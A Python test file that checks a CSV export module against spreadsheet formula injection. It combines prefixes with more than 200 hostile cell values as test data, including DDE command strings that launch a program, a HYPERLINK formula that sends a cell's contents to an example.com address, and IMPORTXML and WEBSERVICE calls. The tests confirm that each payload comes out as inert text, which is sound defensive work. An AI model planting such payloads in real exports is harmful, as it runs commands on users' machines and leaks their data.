"""What leaves as CSV never runs as a formula, and comes back as it was."""

import csv
import datetime as dt
import io
import itertools

import pytest

from customers import csv_out

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u3000+",
    "\ufeff@",
    "\0=",
    "\0 \0-",
    "%",
    "|",
)
REST = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.com?x="&A1,"Click")',
    "SUM(A1:A9)",
    'IMPORTXML("https://example.com","//a")',
    "WEBSERVICE(A1)",
    "DDE(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    'x","=1+1',
    "\r\n=1+1",
    "",
)
PAYLOADS = ["".join(parts) for parts in itertools.product(STARTS, REST)]


def read(heading, rows):
    text = "".join(csv_out.lines(heading, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


def test_two_hundred_payloads_come_out_as_text():
    assert len(PAYLOADS) >= 200
    (_heading, *rows) = read(["note", "after"], [[payload, "next"] for payload in PAYLOADS])
    assert len(rows) == len(PAYLOADS)
    for payload, (text, after) in zip(PAYLOADS, rows, strict=True):
        assert after == "next"
        assert text == "'" + payload.replace("\0", "")


@pytest.mark.parametrize(
    "text", ["Latte", "3 × 2 = 6", "a@b.example", "拿铁 - 大杯", "Ann-Marie", "", "'quoted'", "#5"]
)
def test_ordinary_text_is_left_alone(text):
    assert csv_out.cell(text) == text


def test_headings_are_guarded_as_well():
    assert read(["=1+1"], []) == [["'=1+1"]]


def test_numbers_stay_numbers_and_days_are_iso():
    noon = dt.datetime(2026, 3, 10, 12, tzinfo=dt.UTC)
    rows = [[-30, 0, 9_007_199_254_740_993, dt.date(2026, 2, 28), noon, None, True]]
    assert read(["x"] * 7, rows)[1] == ["-30", "0", "9007199254740993", "2026-02-28", "2026-03-10 13:00:00", "", "true"]


def test_a_large_file_comes_in_pieces():
    pieces = list(csv_out.lines(["n"], ([number] for number in range(1_000))))
    assert len(pieces) > 3
    assert "".join(pieces).count("\r\n") == 1_001
